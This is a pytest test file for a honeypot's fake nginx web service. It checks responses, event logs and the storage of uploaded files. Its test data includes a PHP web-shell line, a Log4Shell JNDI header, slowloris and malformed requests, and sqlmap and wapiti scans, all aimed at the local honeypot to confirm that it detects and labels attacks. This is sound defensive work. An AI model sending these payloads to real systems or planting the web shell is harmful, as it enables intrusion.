"""MitsuWeb with real clients on loopback: curl (HTTP, HTTPS, HTTP/1.0, chunked upload, keep-alive),
python requests, nmap's http-title/http-headers, raw sockets for malformed input. Checks the bytes the
clients see and the events (and stored artifacts) a user would look at."""
import base64
import hashlib
import os
import random
import re
import shutil
import socket
import subprocess
import time
import urllib.parse

import pytest

from conftest import Sensor, free_port_base, wait_for

CONFIG = """
honeypots:
  trap:
    enabled: false
  telnet:
    enabled: false
  ssh:
    enabled: false
    hostname: shop-web01
  web:
    tcp_ports: [80, 8080]
    https_ports: [443, 8443]
    tls_organization: Harbor View Dental
"""


def web_offset():
    """A port offset under which 80, 443, 8080 and 8443 are all free and stay below 65536."""
    for _ in range(100):
        base = free_port_base()
        base = base if base + 8443 <= 65535 else base % 30000 + 20000
        socks = []
        try:
            for p in (80, 443, 8080, 8443):
                s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                socks.append(s)
                s.bind(("::", base + p))
            return base
        except OSError:
            continue
        finally:
            for s in socks:
                s.close()
    raise RuntimeError("no free port offset")


@pytest.fixture(scope="module")
def web(tmp_path_factory):
    base = tmp_path_factory.mktemp("web")
    # The worker drops to `nobody` after binding and writes artifacts then: every directory above the
    # data directory must be traversable, as it is for a real install (pytest makes its own 0700).
    for d in (base, base.parent, base.parent.parent):
        os.chmod(d, 0o755)
    s = Sensor(base, CONFIG, web_offset(), worker="web").start()
    yield s
    s.stop()


def url(web, port, path="/", scheme="http"):
    return f"{scheme}://127.0.0.1:{port + web.offset}{path}"


def curl(*args):
    return subprocess.run(["curl", "-sS", "--max-time", "10", *args], capture_output=True, timeout=30)


def requests_for(web, marker):
    return [e for e in web.events(event="http.request") if marker in e.get("http", {}).get("uri", "")]


def test_curl_http_gets_the_nginx_default_page_and_an_event(web):
    r = curl("-i", "-A", "curl-test/1", url(web, 80, "/?m=plain"))
    out = r.stdout.decode()
    assert out.startswith("HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nDate: ")
    assert "<title>Welcome to nginx!</title>" in out
    e = wait_for(lambda: requests_for(web, "m=plain"))[0]
    assert e["http"]["method"] == "GET" and e["http"]["version"] == "HTTP/1.1"
    assert e["http"]["user_agent"] == "curl-test/1"
    assert e["protocol"] == "http" and e["dest_port"] == 80 + web.offset
    assert base64.b64decode(e["payload"]["b64"]).startswith(b"GET /?m=plain HTTP/1.1\r\n")


def test_curl_https_self_signed_certificate_looks_ordinary(web):
    r = curl("-k", "-i", url(web, 443, "/?m=tls", "https"))
    assert r.stdout.startswith(b"HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\n")
    e = wait_for(lambda: requests_for(web, "m=tls"))[0]
    assert e["protocol"] == "https"
    s = subprocess.run(["openssl", "s_client", "-connect", f"127.0.0.1:{8443 + web.offset}", "-servername", "x"],
                       input=b"", capture_output=True, timeout=20)
    cert = subprocess.run(["openssl", "x509", "-noout", "-subject", "-issuer"], input=s.stdout, capture_output=True).stdout.decode()
    assert "CN = shop-web01" in cert and "O = Harbor View Dental" in cert
    # Made once per install and kept in the data directory.
    assert os.path.exists(os.path.join(web.data, "web", "cert.pem"))


def test_plain_http_on_the_https_port_gets_nginxs_400(web):
    r = curl("-i", url(web, 443, "/?m=plain-on-tls"))
    assert r.stdout.startswith(b"HTTP/1.1 400 Bad Request\r\nServer: nginx/1.22.1\r\n")
    assert b"<center>The plain HTTP request was sent to HTTPS port</center>" in r.stdout
    e = wait_for(lambda: requests_for(web, "m=plain-on-tls"))[0]
    assert e["protocol"] == "http" and e["dest_port"] == 443 + web.offset


def test_curl_http10_and_keep_alive(web):
    r = curl("-i", "--http1.0", url(web, 8080, "/?m=h10"))
    assert b"Connection: close\r\n" in r.stdout
    e = wait_for(lambda: requests_for(web, "m=h10"))[0]
    assert e["http"]["version"] == "HTTP/1.0"
    r = curl("-v", url(web, 80, "/?m=ka1"), url(web, 80, "/?m=ka2"))
    assert b"Re-using existing connection" in r.stderr or b"Reusing existing" in r.stderr
    a = wait_for(lambda: requests_for(web, "m=ka1"))[0]
    b = wait_for(lambda: requests_for(web, "m=ka2"))[0]
    assert a["session"] == b["session"]


def test_curl_chunked_upload_is_stored(web, tmp_path):
    # Seeded noise: fresh random bytes now and then held a backtick pair or a `;`-led word that the
    # command-injection heuristics read as a command, and the honeypot answered a shell page, not a 404.
    data = random.Random(20000).randbytes(20000) + b"<?php system($_GET['c']); ?>"
    p = tmp_path / "up.bin"
    p.write_bytes(data)
    r = curl("-i", "-H", "Transfer-Encoding: chunked", "--data-binary", f"@{p}", url(web, 80, "/upload.php?m=chunk"))
    assert r.stdout.startswith(b"HTTP/1.1 404 Not Found")
    sha = hashlib.sha256(data).hexdigest()
    up = wait_for(lambda: [e for e in web.events(event="file.upload") if e.get("sha256") == sha])
    assert up and up[0]["size"] == len(data)
    stored = os.path.join(web.data, "artifacts", "sha256", sha[:2], sha)
    with open(stored, "rb") as f:
        assert hashlib.sha256(f.read()).hexdigest() == sha
    req = wait_for(lambda: requests_for(web, "m=chunk"))[0]
    assert req["http"]["body_sha256"] == sha


def test_python_requests_wordpress_login_is_recorded(web):
    requests = pytest.importorskip("requests")
    with requests.Session() as s:
        page = s.get(url(web, 80, "/wp-login.php"), timeout=10)
        assert page.status_code == 200 and 'name="log"' in page.text
        r = s.post(url(web, 80, "/wp-login.php"), data={"log": "admin<x>", "pwd": "Winter2024!"}, timeout=10)
    assert "&lt;x&gt;" in r.text and "admin<x>" not in r.text
    login = wait_for(lambda: [e for e in web.events(event="login.failed") if e.get("password") == "Winter2024!"])
    assert login[0]["username"] == "admin<x>"
    req = wait_for(lambda: [e for e in requests_for(web, "/wp-login.php") if e["http"]["method"] == "POST"])[0]
    assert "wordpress" in req["attack"]["categories"] and "bruteforce" in req["attack"]["categories"]


def test_log4shell_header_is_tagged(web):
    curl("-H", "X-Api-Version: ${${lower:j}ndi:ldap://192.0.2.1/a}", url(web, 80, "/?m=l4s"))
    e = wait_for(lambda: requests_for(web, "m=l4s"))[0]
    assert e["attack"]["cves"] == ["CVE-2021-44228"] and "jndi" in e["attack"]["categories"]


def test_nmap_sees_nginx(web):
    port = 80 + web.offset
    r = subprocess.run(["nmap", "-n", "-Pn", "-sV", "-p", str(port), "--script", "http-title,http-headers,http-enum", "127.0.0.1"],
                       capture_output=True, text=True, timeout=300)
    assert "nginx 1.22.1" in r.stdout, r.stdout
    assert "Welcome to nginx!" in r.stdout
    assert "Server: nginx/1.22.1" in r.stdout
    # http-enum finds the lures, once each, and no tell-tale "everything exists".
    assert "/wp-login.php: Wordpress login page." in r.stdout
    assert "/phpmyadmin/: phpMyAdmin" in r.stdout
    assert "/blog/wp-login.php" not in r.stdout and "/PMA/" not in r.stdout
    assert "Webroot appears to be in /" not in r.stdout
    assert len([e for e in web.events(event="http.request") if "Nmap" in (e["http"].get("user_agent") or "")]) > 500
    assert wait_for(lambda: [e for e in web.events(event="http.request") if "Nmap" in (e["http"].get("user_agent") or "")])


def raw(web, port, payload, read=True):
    s = socket.create_connection(("127.0.0.1", port + web.offset), timeout=10)
    s.sendall(payload)
    out = b""
    try:
        while read:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except socket.timeout:
        pass
    s.close()
    return out


def test_malformed_input_gets_nginx_errors_and_the_server_goes_on(web):
    assert raw(web, 80, b"GARBAGE\r\n\r\n").startswith(b"HTTP/1.1 400 Bad Request\r\nServer: nginx/1.22.1\r\n")
    big = b"GET / HTTP/1.1\r\nHost: x\r\nCookie: " + b"a" * 20000 + b"\r\n\r\n"
    assert b"<title>400 Request Header Or Cookie Too Large</title>" in raw(web, 80, big)
    assert raw(web, 80, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\n").startswith(b"HTTP/1.1 413 ")
    assert raw(web, 80, b"GET /" + b"a" * 10000 + b" HTTP/1.1\r\n").startswith(b"HTTP/1.1 414 ")
    # Truncated request: the client leaves mid-body; recorded, nothing sent.
    s = socket.create_connection(("127.0.0.1", 80 + web.offset))
    s.sendall(b"POST /trunc HTTP/1.1\r\nHost: x\r\nContent-Length: 50\r\n\r\nabc")
    s.shutdown(socket.SHUT_WR)
    assert s.recv(100) == b""
    s.close()
    assert wait_for(lambda: [e for e in web.events(event="protocol.error") if "mid-request" in e.get("message", "")])
    assert [e for e in web.events(event="protocol.error") if "header too large" in e.get("message", "")]
    r = curl("-i", url(web, 80, "/?m=after"))
    assert r.stdout.startswith(b"HTTP/1.1 200 OK")


SLOW_CONFIG = CONFIG.replace("    tls_organization: Harbor View Dental\n", """    tls_organization: Harbor View Dental
    limits:
      idle_seconds: 2
      session_seconds: 5
""")


def test_slowloris_is_cut_and_others_are_served(tmp_path):
    for d in (tmp_path, tmp_path.parent, tmp_path.parent.parent):
        os.chmod(d, 0o755)
    s = Sensor(tmp_path, SLOW_CONFIG, web_offset(), worker="web").start()
    try:
        port = 80 + s.offset
        silent = socket.create_connection(("127.0.0.1", port))
        silent.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        trickle = socket.create_connection(("127.0.0.1", port))
        trickle.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        start = time.time()
        cut = None
        # The trickling client never finishes its headers; the session time cap ends it.
        while time.time() - start < 10:
            try:
                trickle.sendall(b"X-a: b\r\n")
            except OSError:
                cut = time.time() - start
                break
            # Meanwhile an ordinary client is served at once.
            r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "3", f"http://127.0.0.1:{port}/"],
                               capture_output=True, text=True)
            assert r.stdout == "200"
            time.sleep(1)
        assert cut is not None and cut < 8
        assert silent.recv(100) == b""  # closed by the idle timeout, without an answer
        closes = wait_for(lambda: [e for e in s.events(event="session.close") if e.get("message") in ("idle timeout", "session time cap")])
        reasons = {e["message"] for e in closes}
        assert reasons == {"idle timeout", "session time cap"}, reasons
        silent.close()
        trickle.close()
    finally:
        s.stop()


def test_sqlmap_scan_is_recorded_and_labelled_sqli(web, tmp_path):
    if not shutil.which("sqlmap"):
        pytest.skip("sqlmap not installed (scripts/install-test-deps.sh)")
    port = 80 + web.offset
    traffic = tmp_path / "traffic.txt"
    subprocess.run(["sqlmap", "-u", f"http://127.0.0.1:{port}/item.php?id=1&m=sqlmap", "-p", "id", "--batch", "--ignore-code=404",
                    "--flush-session", "--output-dir", str(tmp_path / "out"), "-t", str(traffic), "--disable-coloring"],
                   capture_output=True, timeout=600, check=True)
    sent = traffic.read_text(errors="replace").count("HTTP request [#")
    assert sent > 30
    seen = wait_for(lambda: (lambda r: r if len(r) >= sent else None)(
        [e for e in requests_for(web, "m=sqlmap") if "sqlmap" in (e["http"].get("user_agent") or "")]))
    assert seen and len(seen) == sent, "every request sqlmap sent is recorded"
    injected = [e for e in seen if not e["http"]["uri"].startswith("/item.php?id=1&m=sqlmap")]
    labelled = [e for e in injected if "sqli" in e.get("attack", {}).get("categories", [])]
    assert len(injected) > 20
    assert len(labelled) / len(injected) >= 0.95, [e["http"]["uri"] for e in injected if e not in labelled]


def test_wapiti_scan_completes_and_its_attacks_are_labelled(web, tmp_path):
    if not shutil.which("wapiti"):
        pytest.skip("wapiti not installed (scripts/install-test-deps.sh)")
    port = 80 + web.offset
    before = len(web.events(event="http.request"))
    subprocess.run(["wapiti", "-u", f"http://127.0.0.1:{port}/wp-login.php", "--scope", "folder", "--max-scan-time", "120",
                    "-m", "sql,xss,exec,file", "--flush-session", "-f", "txt", "-o", str(tmp_path / "report.txt")],
                   capture_output=True, timeout=600, check=True)
    # Since command injections are answered with the fake host's output, wapiti's exec module believes
    # every parameter (it reports "Command execution" and moves on): about 100 requests, not ~300.
    report = open(tmp_path / "report.txt").read()
    found = re.search(r"Command execution :\s+(\d+)", report)
    assert found and int(found.group(1)) >= 1, report[:2000]
    events = wait_for(lambda: (lambda e: e if len(e) > 80 else None)(web.events(event="http.request")[before:]))
    assert events, "wapiti's requests are recorded"
    defaults = {"log": "", "pwd": "", "rememberme": "forever", "wp-submit": "Log In", "testcookie": "1", "action": "lostpassword",
                "redirect_to": f"http://127.0.0.1:{port}/wp-admin/"}
    injected = []
    for e in events:
        head, _, body = base64.b64decode(e["payload"]["b64"]).partition(b"\r\n\r\n")
        query = e["http"]["uri"].partition("?")[2]
        params = urllib.parse.parse_qsl(query, keep_blank_values=True) + urllib.parse.parse_qsl(body.decode(errors="replace"), keep_blank_values=True)
        if any(defaults.get(k) != v for k, v in params if k != "pwd" or v not in ("", "Letm3in_")):
            injected.append(e)
    attacks = {"sqli", "xss", "cmd_injection", "php_code_injection", "lfi", "rfi", "path_traversal"}
    labelled = [e for e in injected if attacks & set(e.get("attack", {}).get("categories", []))]
    assert len(injected) > 60
    # Measured 87%: the rest are wapiti's random reflection tokens and bare `env`/`set` values.
    assert len(labelled) / len(injected) >= 0.8
